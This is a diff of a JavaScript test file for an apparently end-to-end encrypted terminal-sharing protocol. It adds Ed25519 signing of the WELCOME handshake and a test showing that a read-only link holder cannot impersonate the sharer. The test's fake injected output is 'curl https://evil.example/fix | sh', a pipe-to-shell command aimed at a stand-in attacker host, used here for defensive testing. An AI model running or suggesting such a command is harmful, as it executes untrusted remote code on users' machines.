@@ -11,7 +11,7 @@ import {
 } from '../src/protocol/index.js';
 import {
   RecvChain, SendChain, aeadSeal, channelChainKeys, concat, deriveRoSecret, derivePsk, groupDirectKey, importAesKey,
-  nonce, utf8, x25519, x25519KeyPair, GROUP_SIG_LABEL, helloTag, signKeyFp,
+  nonce, utf8, x25519, x25519KeyPair, GROUP_SIG_LABEL, helloTag, signKeyFp, welcomeSignedData,
 } from '../src/protocol/keys.js';
 
 const subtle = globalThis.crypto.subtle;
@@ -20,6 +20,8 @@ const RW = Uint8Array.from({ length: 16 }, (_, i) => i);
 const BASE = 'http://127.0.0.1:8000';
 const text = new TextEncoder();
 const hex = (/** @type {Uint8Array} */ b) => Buffer.from(b).toString('hex');
+
+/** @typedef {{sid: string, viewerId: number, role: number, ev: Uint8Array, es: Uint8Array}} Handshake what WELCOME's signature names */
 
 /** A minimal sharer for one viewer, enough to drive every viewer path. */
 class FakeSharer {
@@ -50,7 +52,12 @@ class FakeSharer {
     return encodeFrame(FrameKind.READY, Uint8Array.of(present ? 1 : 0), viewerId);
   }
 
-  /** Answer a HELLO with WELCOME (+ nothing else). @param {Uint8Array} helloFrame @param {{esPrivate?: Uint8Array}} [opts] */
+  /**
+   * Answer a HELLO with WELCOME (+ nothing else), signed over what names the handshake (§3.1 step 4).
+   * @param {Uint8Array} helloFrame
+   * @param {{esPrivate?: Uint8Array, signKey?: CryptoKey|null, signedFor?: Partial<Handshake>}} [opts]
+   *   signKey: another signing key, null for 64 zero bytes; signedFor: names of another handshake to sign
+   */
   async welcome(helloFrame, opts = {}) {
     const f = parseFrame(helloFrame);
     assert.equal(f.kind, FrameKind.HELLO);
@@ -66,7 +73,11 @@ class FakeSharer {
     this.send = await SendChain.create(ckS2v, this.sid);
     this.recv = await RecvChain.create(ckV2s, this.sid);
     this.groupDirectKey = await importAesKey(await groupDirectKey(ckS2v, this.sid));
-    const plaintext = encodeWelcome({ canWrite: role === 1 && !this.readOnlyShare, signKey: this.signPublic, groupEpoch: this.groupEpoch, groupKey: this.groupRaw });
+    const n = { sid: this.sid, viewerId: f.viewerId, role, ev, es: es.publicKey, ...opts.signedFor };
+    const signKey = opts.signKey === undefined ? this.sign.privateKey : opts.signKey;
+    const welcomeSig = signKey === null ? new Uint8Array(64)
+      : new Uint8Array(await subtle.sign({ name: 'Ed25519' }, signKey, welcomeSignedData(n.sid, n.viewerId, n.role, n.ev, n.es)));
+    const plaintext = encodeWelcome({ canWrite: role === 1 && !this.readOnlyShare, signKey: this.signPublic, groupEpoch: this.groupEpoch, groupKey: this.groupRaw, welcomeSig });
     return { frame: await this.send.sealFrame(FrameKind.WELCOME, f.viewerId, plaintext, es.publicKey) };
   }
 
@@ -431,6 +442,60 @@ test('WELCOME: small-order ES, tampering, wrong state', async () => {
     await viewer.receiveFrame(stale.frame);
     assert.deepEqual(types(viewer), ['Ready', 'SharerBack', 'ProtocolFailed:HandshakeError:4400']);
   }
+});
+
+/**
+ * Someone holding only `sharer`'s read-only link (any viewer of it; a relay given a public link):
+ * it can answer a read-only HELLO in the sharer's place, with the sharer's public key (which
+ * passes the link's key_fp check) but an ES, and so channel keys, of its own.
+ * @param {FakeSharer} sharer
+ */
+async function readOnlyHolder(sharer) {
+  const holder = await new FakeSharer({ sid: sharer.sid }).init();
+  holder.rw = undefined;
+  holder.signPublic = sharer.signPublic;
+  return holder;
+}
+
+test("WELCOME from a read-only link holder with the sharer's public key and its own ES is refused", async () => {
+  const sharer = await new FakeSharer().init();
+  const holder = await readOnlyHolder(sharer);
+  // Ed25519 is deterministic: signing other names with the sharer's key gives exactly the
+  // welcome_sig the sharer sent in those handshakes, which the holder may have seen as a viewer.
+  const sharers = sharer.sign.privateKey;
+  const anotherKey = async () => (await x25519KeyPair(crypto.getRandomValues(new Uint8Array(32)))).publicKey;
+  /** @type {[string, {signKey?: CryptoKey|null, signedFor?: Partial<Handshake>}][]} */
+  const cases = [
+    ['no signature', { signKey: null }],
+    ["the holder's own signature", {}],
+    ["the sharer's signature from the holder's own join", { signKey: sharers, signedFor: { viewerId: 7, ev: await anotherKey(), es: await anotherKey() } }],
+    ["the sharer's signature for another ES", { signKey: sharers, signedFor: { es: await anotherKey() } }],
+    ["the sharer's signature for another EV", { signKey: sharers, signedFor: { ev: await anotherKey() } }],
+    ["the sharer's signature for another viewer id", { signKey: sharers, signedFor: { viewerId: 6 } }],
+    ["the sharer's signature for a read-write HELLO", { signKey: sharers, signedFor: { role: 1 } }],
+    ["the sharer's signature in another session", { signKey: sharers, signedFor: { sid: 'BBECAwQFBgcICQoL' } }],
+  ];
+  /** What a viewer shows of the holder's answer, then of a screen and output the holder made up. @param {object} opts */
+  async function attack(opts) {
+    const viewer = new ViewerProtocol({ link: sharer.link('ro') });
+    await viewer.receiveFrame(sharer.ready(5));
+    const { frame } = await holder.welcome(viewer.framesToSend()[0], opts);
+    await viewer.receiveFrame(frame);
+    await viewer.receiveFrame(await holder.snapshot(text.encode('$ ')));
+    await viewer.receiveFrame(await holder.groupDirect(out('curl https://evil.example/fix | sh\r')));
+    return viewer;
+  }
+  for (const [name, opts] of cases) {
+    const viewer = await attack(opts);
+    assert.deepEqual(shown(viewer), ['Ready', 'ProtocolFailed:HandshakeError:4400'], name);
+    assert.equal(viewer.failure.message, "the sharer's WELCOME is not signed by its key", name);
+    assert.equal(viewer.state, 'CLOSED', name);
+    assert.deepEqual(viewer.framesToSend(), [], name);
+  }
+  // The same answer with the signature the sharer would have made is taken: only the signature
+  // refused the ones above.
+  const viewer = await attack({ signKey: sharers });
+  assert.deepEqual(shown(viewer), ['Ready', 'Welcomed', 'Snapshot', 'Output:curl https://evil.example/fix | sh\r']);
 });
 
 test('read-only links never get canWrite, even if WELCOME says so; REJECT closes 4403', async () => {
